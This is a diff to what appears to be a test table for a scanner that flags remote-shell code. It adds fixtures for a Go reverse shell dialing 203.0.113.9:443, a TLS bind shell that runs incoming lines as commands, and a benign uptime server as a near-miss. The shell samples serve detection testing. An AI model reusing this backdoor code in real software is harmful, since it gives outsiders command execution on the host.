@@ -106,6 +106,45 @@ func poll(ctx context.Context, c *http.Client, base string) {
 	}
 }
 `},
+		"words-dial.go": {RuleGo, goHead + `func main() {
+	c, err := net.Dial("tcp", "203.0.113.9:443")
+	if err != nil {
+		return
+	}
+	s := bufio.NewScanner(c)
+	for s.Scan() {
+		f := strings.Fields(s.Text())
+		if len(f) == 0 {
+			continue
+		}
+		out, _ := exec.Command(f[0], f[1:]...).Output()
+		c.Write(out)
+	}
+}
+`},
+		"words-tls.go": {RuleGo, goHead + `func serve(c net.Conn) {
+	defer c.Close()
+	rd := bufio.NewReader(c)
+	for {
+		line, err := rd.ReadString('\n')
+		if err != nil {
+			return
+		}
+		args := strings.Split(strings.TrimSpace(line), " ")
+		cmd := exec.Command(args[0], args[1:]...)
+		res, _ := cmd.CombinedOutput()
+		fmt.Fprintf(c, "%s\n", res)
+	}
+}
+
+func main() {
+	ln, _ := tls.Listen("tcp", ":8443", cfg)
+	for {
+		c, _ := ln.Accept()
+		go serve(c)
+	}
+}
+`},
 		"bind.rs": {RuleRust, `use std::io::{BufRead, BufReader, Write};
 use std::net::TcpListener;
 use std::process::Command;
@@ -173,6 +212,7 @@ fn main() { for c in TcpListener::bind("[::]:31337").unwrap().incoming() { let c
 		"ssh-hook.go":   goHead + "func main() {\n\tsrv := &ssh.Server{Addr: \":2222\"}\n\texec.Command(\"/bin/sh\", \"-c\", \"/etc/hooks/start\").Run()\n\tsrv.ListenAndServe()\n}\n",
 		"reporter.go":   goHead + "func main() {\n\tfor {\n\t\tout, err := exec.Command(\"sh\", \"-c\", *check).CombinedOutput()\n\t\thttp.Post(*url, \"text/plain\", bytes.NewReader(out))\n\t\t_ = err\n\t\ttime.Sleep(time.Minute)\n\t}\n}\n",
 		"fetcher.go":    goHead + "func main() {\n\tresp, _ := http.Get(u)\n\tb, _ := io.ReadAll(resp.Body)\n\tout, _ := exec.Command(\"git\", \"apply\", \"-\").Output()\n\thttp.Post(u, \"a\", bytes.NewReader(append(b, out...)))\n\ttime.Sleep(1)\n}\n",
+		"status-srv.go": goHead + "func main() {\n\tln, _ := net.Listen(\"tcp\", \":7000\")\n\tfor {\n\t\tc, _ := ln.Accept()\n\t\tr := bufio.NewReader(c)\n\t\tr.ReadString('\\n')\n\t\tout, _ := exec.Command(\"uptime\").Output()\n\t\tc.Write(out)\n\t}\n}\n",
 		"git-srv.rs":    "use std::net::TcpListener;\nuse std::process::Command;\nuse std::io::{BufRead, BufReader, Write};\nfn main() { for s in TcpListener::bind(\"127.0.0.1:9418\").unwrap().incoming() { let mut s = s.unwrap(); let mut l = String::new(); BufReader::new(&s).read_line(&mut l).ok(); let o = Command::new(\"git\").arg(\"status\").output().unwrap(); s.write_all(&o.stdout).ok(); } }\n",
 		"cli.rs":        "use std::process::Command;\nfn main() { let a: Vec<String> = std::env::args().collect(); let o = Command::new(&a[1]).output().unwrap(); println!(\"{:?}\", o.stdout); }\n",
 	}
